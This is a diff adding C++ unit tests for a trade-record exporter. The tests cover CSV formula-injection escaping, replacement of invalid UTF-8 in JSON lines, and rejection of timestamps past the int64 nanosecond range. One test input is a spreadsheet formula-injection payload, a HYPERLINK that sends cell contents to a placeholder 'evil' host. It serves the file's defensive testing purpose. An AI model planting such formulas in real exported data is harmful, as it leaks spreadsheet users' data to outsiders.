@@ -98,6 +98,48 @@ CAF_TEST(csv_row_round_trips_through_an_rfc4180_parser_with_the_schema_first) {
   CAF_CHECK_EQUAL(col("fill_qty"), "");
 }
 
+// Review R1 M3: a text an outsider chose is never a formula in a spreadsheet.
+CAF_TEST(csv_text_that_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote) {
+  CAF_CHECK_EQUAL(csv_text_field("=HYPERLINK(\"http://evil/\"&A1,\"x\")"),
+                  "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"");
+  CAF_CHECK_EQUAL(csv_text_field("+1"), "'+1");
+  CAF_CHECK_EQUAL(csv_text_field("-1"), "'-1");
+  CAF_CHECK_EQUAL(csv_text_field("@SUM(A1)"), "'@SUM(A1)");
+  CAF_CHECK_EQUAL(csv_text_field("\tx"), "'\tx");
+  CAF_CHECK_EQUAL(csv_text_field("\rx"), "\"'\rx\"");
+  CAF_CHECK_EQUAL(csv_text_field("a=b"), "a=b");
+  CAF_CHECK_EQUAL(csv_text_field(""), "");
+  auto e = sample();
+  e.text = "=1+2";
+  e.strategy.value = "@evil";
+  e.id.value = "-7";
+  auto header = parse_csv_record(csv_header());
+  auto row = parse_csv_record(to_csv_row(e));
+  CAF_REQUIRE_EQUAL(header.size(), row.size());
+  for (size_t i = 0; i < header.size(); ++i) {
+    if (header[i] == "text")
+      CAF_CHECK_EQUAL(row[i], "'=1+2");
+    if (header[i] == "strategy")
+      CAF_CHECK_EQUAL(row[i], "'@evil");
+    if (header[i] == "client_order_id")
+      CAF_CHECK_EQUAL(row[i], "'-7");
+    if (header[i] == "price")
+      CAF_CHECK_EQUAL(row[i], "30000.50000000");
+  }
+}
+
+// Review R1 L2: bytes that are not UTF-8 (a venue's text) become U+FFFD.
+CAF_TEST(jsonl_replaces_invalid_utf8_so_every_line_is_valid_utf8) {
+  auto e = sample();
+  e.text = std::string("ok \xC3\xA9 bad \xFF end \xC3");
+  auto line = to_json_line(e);
+  rapidjson::Document d;
+  d.Parse<rapidjson::kParseValidateEncodingFlag>(line.c_str(), line.size());
+  CAF_REQUIRE(!d.HasParseError());
+  CAF_CHECK_EQUAL(std::string(d["text"].GetString()),
+                  std::string("ok \xC3\xA9 bad \xEF\xBF\xBD end \xEF\xBF\xBD"));
+}
+
 CAF_TEST(csv_file_is_header_then_crlf_records) {
   std::ostringstream out;
   write_csv(out, {sample(), sample()});
@@ -144,11 +186,20 @@ CAF_TEST(utc_times_parse_in_every_documented_form_and_refuse_the_rest) {
   CAF_CHECK_EQUAL(t.ns, 1'796'594'400'500'000'000);
   CAF_REQUIRE(parse_utc_time("1796594400000000001", t, why));
   CAF_CHECK_EQUAL(t.ns, 1'796'594'400'000'000'001);
+  CAF_REQUIRE(parse_utc_time("9223372036854775807", t, why));
+  CAF_CHECK_EQUAL(t.ns, INT64_MAX);
+  CAF_REQUIRE(parse_utc_time("2262-04-11T23:47:16.854775807Z", t, why));
+  CAF_CHECK_EQUAL(t.ns, INT64_MAX);
+  CAF_CHECK(!parse_utc_time("2600-01-01", t, why));
+  CAF_CHECK(why.find("outside") != std::string::npos);
   CAF_CHECK_EQUAL(format_utc_time(timestamp_ns{1'796'594'400'500'000'000}),
                   "2026-12-06T22:00:00.500000000Z");
   for (const char* bad : {"", "yesterday", "2026-13-01", "2026-02-30", "2026-12-06T22:00:00",
                           "2026-12-06T22:00:00+01:00", "2026-12-06T24:00:00Z",
-                          "2026-12-06T22:00:00.1234567891Z", "99999999999999999999"}) {
+                          "2026-12-06T22:00:00.1234567891Z", "99999999999999999999",
+                          // past INT64_MAX ns (19 digits), and years whose ns would wrap
+                          "9999999999999999999", "9223372036854775808", "2600-01-01",
+                          "2262-04-11T23:47:17Z", "9999-12-31T23:59:59.999999999Z", "0001-01-01"}) {
     CAF_CHECK(!parse_utc_time(bad, t, why));
     CAF_CHECK(!why.empty());
   }
